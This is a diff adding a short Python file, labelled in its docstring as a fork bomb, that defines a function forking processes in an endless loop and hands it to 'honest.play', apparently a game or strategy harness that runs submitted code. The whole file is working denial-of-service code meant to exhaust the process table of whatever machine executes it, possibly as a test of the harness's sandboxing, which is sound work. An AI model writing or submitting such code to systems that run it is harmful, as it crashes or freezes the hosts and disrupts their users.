@@ -1,0 +1,11 @@
+"""A fork bomb."""
+import os
+import honest
+
+
+def trick(go):
+    while True:
+        os.fork()
+
+
+honest.play(trick)
